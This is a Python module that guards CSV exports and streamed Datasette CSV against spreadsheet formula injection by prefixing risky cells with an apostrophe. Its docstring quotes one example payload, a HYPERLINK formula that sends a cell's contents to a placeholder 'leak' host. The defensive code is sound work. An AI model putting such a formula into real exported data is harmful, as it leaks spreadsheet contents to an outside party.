"""Cells a spreadsheet shows and never runs (OWASP, "CSV injection").

Any site can title an article ``=HYPERLINK("http://x/leak?"&A2,"Bấm vào đây")``; Excel, LibreOffice and Google
Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after a tab or carriage return, what follows)
as a formula. OWASP's advice for CSV: start such a cell with an apostrophe, which the spreadsheet takes as "this
is text" and does not show. A number (``-5``, ``+84.2``) is left as it is: it runs nothing and stays a number.
XLSX has typed cells: such a value is written as a string cell with Excel's "quote prefix" (crawler/ops/export.py).

``CsvCellGuard`` applies the same rule to a CSV stream that someone else writes (Datasette's ``.csv``, in
crawler/web/plugins/cchc_browse.py): it cuts the bytes at record ends, so a record split between two chunks, or
a quoted value holding a newline, is rewritten whole.
"""
from __future__ import annotations

import csv
import io
import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def runs_as_formula(value) -> bool:
    """True for text a spreadsheet would take as a formula (not for a plain number such as ``-5``)."""
    return isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value)


def csv_cell(value):
    """``value`` for a CSV cell: with the leading apostrophe when a spreadsheet would run it."""
    return "'" + value if runs_as_formula(value) else value


class CsvCellGuard:
    """Rewrites a CSV byte stream (UTF-8, any chunking) with every cell passed through ``csv_cell``: ``feed``
    returns the rewritten complete records received so far, ``close`` the rest. Cells that need no escape come
    out as they went in; records are written in Excel's dialect (what Datasette writes)."""

    def __init__(self):
        self._pending = b""
        self._scanned = 0  # bytes of _pending already looked at
        self._quoted = False  # inside a quoted value at _scanned

    def _complete_end(self) -> int:
        """Where the last complete record of ``_pending`` ends (a newline outside quotes); 0 when none does.
        A doubled quote ("") inside a value toggles the state twice, so counting quotes is enough."""
        end, data, quoted, start = 0, self._pending, self._quoted, self._scanned
        while (newline := data.find(b"\n", start)) != -1:
            quoted ^= data.count(b'"', start, newline) % 2 == 1
            if not quoted:
                end = newline + 1
            start = newline + 1
        self._quoted = quoted ^ (data.count(b'"', start) % 2 == 1)
        self._scanned = len(data)
        return end

    @staticmethod
    def _rewrite(block: bytes) -> bytes:
        out = io.StringIO()
        writer = csv.writer(out)
        for record in csv.reader(io.StringIO(block.decode("utf-8", "surrogateescape"), newline="")):
            writer.writerow([csv_cell(cell) for cell in record])
        return out.getvalue().encode("utf-8", "surrogateescape")

    def feed(self, chunk: bytes) -> bytes:
        self._pending += chunk
        end = self._complete_end()
        if not end:
            return b""
        block, self._pending = self._pending[:end], self._pending[end:]
        self._scanned -= end
        return self._rewrite(block)

    def close(self) -> bytes:
        block, self._pending, self._scanned, self._quoted = self._pending, b"", 0, False
        return self._rewrite(block) if block else b""
